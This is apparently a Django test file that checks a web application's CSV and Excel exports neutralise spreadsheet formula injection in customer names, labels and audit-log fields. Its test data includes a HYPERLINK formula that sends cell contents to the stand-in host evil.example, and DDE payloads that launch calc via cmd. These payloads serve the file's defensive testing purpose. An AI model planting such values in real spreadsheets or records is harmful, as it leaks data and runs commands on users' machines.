"""Every CSV the web application writes — run results, the entity list, the audit log —
neutralises text a spreadsheet would run as a formula (OWASP: a leading apostrophe); numbers
stay numbers; the Excel export writes such text as text."""

import csv
import io

from django.urls import reverse
from openpyxl import load_workbook
from tests.web.runs.support import DATA, finished_run

from pingji.web.audit.models import AuditEvent
from pingji.web.imports.services import commit_batch
from pingji.web.lib.testing import WebTestCase
from pingji.web.schemes.services import add_version, publish

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
NAMES = {"K01": LINK, "K02": "@SUM(1+1)*cmd|' /C calc'!A0", "K03": "+86 10 1234", "K04": "-x"}


def rows(response) -> list[list[str]]:
    data = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(data)))


class ExportFormulaTest(WebTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        lines = (DATA / "customers.csv").read_text(encoding="utf-8").splitlines()
        hostile = [lines[0]] + [
            ",".join([k, '"' + NAMES[k].replace('"', '""') + '"']) if k in NAMES else line
            for line in lines[1:]
            for k in [line.split(",")[0]]
        ]
        path = cls._home / "customers-hostile.csv"
        path.write_text("\n".join(hostile) + "\n", encoding="utf-8")
        commit_batch(path, "customers", cls.analyst)
        commit_batch(DATA / "sales.csv", "sales", cls.analyst)
        text = (DATA / "runs-test.yaml").read_text(encoding="utf-8")
        text = text.replace("label: 销售额, value: sales", "label: '=1+2', value: sales")
        cls.version = publish(add_version(text, cls.analyst), cls.analyst)
        cls.done = finished_run(cls.version, "2025", cls.analyst)

    def setUp(self):
        self.login(self.admin)

    def test_the_results_csv_neutralises_names_and_labels(self):
        table = rows(self.client.get(reverse("runs:export", args=[self.done.pk, "csv"])))
        header, body = table[0], {r[0]: r for r in table[1:]}
        self.assertFalse([h for h in header if h[:1] in "=+-@"], header)
        self.assertIn("'=1+2", " ".join(header))
        for entity_id, name in NAMES.items():
            self.assertEqual(body[entity_id][1], "'" + name)
        self.assertEqual(body["K05"][1], "东海食品有限公司")  # an ordinary name as it is
        self.assertEqual(body["K01"][3], "100.0")  # a number stays a number

    def test_the_results_excel_writes_such_names_as_text(self):
        response = self.client.get(reverse("runs:export", args=[self.done.pk, "xlsx"]))
        sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
        names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
        self.assertEqual(names["K01"].value, LINK)
        self.assertEqual(names["K01"].data_type, "s")

    def test_the_entity_list_csv_neutralises_names(self):
        table = rows(self.client.get(reverse("entities:export"), {"table": "customers"}))
        body = {r[0]: r[1] for r in table[1:]}
        for entity_id, name in NAMES.items():
            self.assertEqual(body[entity_id], "'" + name)

    def test_the_audit_csv_neutralises_what_people_typed(self):
        AuditEvent.objects.create(
            username="@admin", action="department.create", object_repr="=cmd|' /C calc'!A0"
        )
        table = rows(self.client.get("/audit/", {"format": "csv"}))
        row = next(r for r in table if r[1] == "'@admin")
        self.assertEqual(row[5], "'=cmd|' /C calc'!A0")
